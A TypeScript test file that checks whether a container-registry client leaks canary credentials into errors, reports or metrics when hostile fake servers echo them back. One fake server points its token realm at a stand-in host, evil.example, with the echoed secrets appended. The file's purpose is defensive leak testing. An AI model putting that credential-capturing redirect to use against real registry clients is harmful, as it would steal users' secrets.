import { chmod, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { RegistryHostSettings, RegistryOptions } from "../../../src/adapters/registry/settings.ts";
import { digestOf } from "../../../src/image/digest.ts";
import { parseTag } from "../../../src/image/reference.ts";
import { Secret } from "../../../src/secret.ts";
import { instantOf } from "../../../src/time.ts";
import { type Call, type Reply, reply } from "../../fakes/registry/reply.ts";
import { startTokenService, type TokenService } from "../../fakes/token-services/service.ts";
import { clientFor, closeAll, everythingIn, PATH } from "./stage.ts";

const { signal } = new AbortController();
const NOW = instantOf(Date.UTC(2026, 10, 28));
let folder = "";
const services: TokenService[] = [];

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "hk-canary-"));
});
afterEach(async () => {
  await closeAll();
  await Promise.all(services.splice(0).map((service) => service.close()));
  await rm(folder, { recursive: true, force: true });
});

const key = JSON.stringify({
  type: "service_account",
  client_email: "a@b.example",
  private_key: "canary-key",
});
const inline = (entry: object) => (host: string) => ({
  dockerConfig: {
    inline: new Secret(JSON.stringify({ auths: { [host]: entry } })),
    files: [],
    helpers: "ignored" as const,
  },
});

/** Every way to log in that has a secret, with the word canary in it. */
const WAYS: readonly {
  readonly title: string;
  readonly settings?: RegistryHostSettings;
  readonly options?: (host: string) => Partial<RegistryOptions>;
  /** Whether the registry or its token service gets to see it. */
  readonly isSent?: false;
}[] = [
  {
    title: "a user and a password",
    settings: { login: { kind: "basic", username: "robot", password: new Secret('canary "pass" wörd') } },
  },
  {
    title: "an identity token",
    settings: { login: { kind: "identity-token", token: new Secret("canary-identity") } },
  },
  {
    title: "a registry token",
    settings: { login: { kind: "registry-token", token: new Secret("canary-token") } },
  },
  { title: "the key of a service account", settings: { login: { kind: "google", key: new Secret(key) } } },
  {
    title: "a client of a directory",
    isSent: false,
    settings: {
      login: {
        kind: "acr",
        tenant: "tenant",
        clientId: "client",
        authority: "https://127.0.0.1:1",
        proof: { kind: "secret", secret: new Secret("canary-client-secret") },
      },
    },
  },
  { title: "docker's auth", options: inline({ auth: Buffer.from("robot:canary-auth").toString("base64") }) },
  { title: "docker's identity token", options: inline({ identitytoken: "canary-identity" }) },
  { title: "docker's registry token", options: inline({ registrytoken: "canary-registry" }) },
  { title: "docker's broken entry", isSent: false, options: inline({ auth: "canary!" }) },
  {
    title: "a helper",
    options: () => ({
      dockerConfig: {
        inline: new Secret('{"credsStore":"all"}'),
        files: [],
        helpers: "run",
        helperEnvironment: { PATH: `${folder}:/usr/bin:/bin` },
      },
    }),
  },
];

/** All that came, as a server that wants it in our log would send it back. */
function echoOf({ headers, body, query }: Call): string {
  const sent = String(headers["authorization"] ?? "").replace(/^\w+ /, "");
  const decoded = Buffer.from(sent, "base64").toString("utf8");
  return [Buffer.from(body).toString("utf8"), sent, decoded, query.toString()].filter(Boolean).join(" ");
}

const bearer = (url: string): string => `Bearer realm="${url}/token",service="x"`;
const SERVERS: readonly { readonly title: string; readonly answer: (call: Call, url: string) => Reply }[] = [
  ...[400, 401, 403, 404, 429, 500].flatMap((status) => [
    {
      title: `answers ${status} with all that it got, as text`,
      answer: (call: Call) => {
        const isFirst = !("authorization" in call.headers);
        return reply(isFirst ? 401 : status, { "www-authenticate": "Basic" }, echoOf(call));
      },
    },
    {
      title: `answers ${status} with all that it got, as an error, after a token of its own`,
      answer: (call: Call, url: string) => {
        if (call.path === "/token") return reply(200, {}, '{"token":"canary-bearer"}');
        const body = JSON.stringify({ errors: [{ code: "DENIED", message: echoOf(call) }] });
        const isFirst = !("authorization" in call.headers);
        return reply(isFirst ? 401 : status, { "www-authenticate": bearer(url) }, body);
      },
    },
    {
      title: `has a token service that answers ${status} with all that it got`,
      answer: (call: Call, url: string) =>
        call.path === "/token"
          ? reply(status, {}, echoOf(call))
          : reply(401, { "www-authenticate": bearer(url) }, echoOf(call)),
    },
  ]),
  {
    title: "redirects to all that it got",
    answer: (call) => {
      const location = `https://127.0.0.1:1/?${encodeURIComponent(echoOf(call))}`;
      const isFirst = !("authorization" in call.headers);
      return isFirst ? reply(401, { "www-authenticate": "Basic" }) : reply(307, { location });
    },
  },
  {
    title: "names all that it got as its token service",
    answer: (call) => {
      const isFirst = !("authorization" in call.headers);
      const realm = encodeURIComponent(echoOf(call));
      return reply(401, {
        "www-authenticate": isFirst ? "Basic" : `Bearer realm="https://evil.example/?${realm}"`,
      });
    },
  },
];

test.each(WAYS)("no server learns to put $title into an error, a report or a metric", async (way) => {
  const helper = join(folder, "docker-credential-all");
  await writeFile(helper, `#!/bin/sh\necho '{"Username":"robot","Secret":"canary-helper"}'\n`);
  await chmod(helper, 0o755);
  let errors = 0;
  let shown = 0;
  for (const server of SERVERS) {
    const service = await startTokenService(server.answer);
    services.push(service);
    const client = clientFor([], {
      hosts: new Map([[service.host, { plainHttp: true, allowPrivate: true, ...way.settings }]]),
      ...way.options?.(service.host),
    });
    const repository = { registry: service.host, path: PATH };
    const digest = digestOf(Buffer.from("x"));
    const line = { repository, tag: parseTag("latest") };
    const seen = await Promise.all([
      client.resolve(line, signal).catch((error: unknown) => error),
      client.manifest({ repository, digest }, signal).catch((error: unknown) => error),
      client.logins.reportOn(repository, NOW, signal).catch((error: unknown) => error),
      client.logins.probe(line, NOW, signal).catch((error: unknown) => error),
    ]);
    shown += service.calls.filter(
      ({ headers, body }) => "authorization" in headers || body.length > 0,
    ).length;
    errors += seen.filter((value) => value instanceof Error).length;
    const text = [...seen.map(everythingOf), JSON.stringify(client.metrics.requests)].join("\n");
    expect({
      server: server.title,
      leak: /.{0,40}(?:canary|Y2FuYXJ5|NhbmFye|jYW5hcn)/.exec(text)?.[0],
    }).toEqual({
      server: server.title,
    });
  }
  expect(errors).toBeGreaterThan(SERVERS.length);
  // It looked: secrets were sent, except where there is none to send.
  expect(shown).toBeGreaterThan(way.isSent === false ? -1 : SERVERS.length / 4);
});

function everythingOf(value: unknown): string {
  return value instanceof Error ? everythingIn(value) : JSON.stringify(value);
}
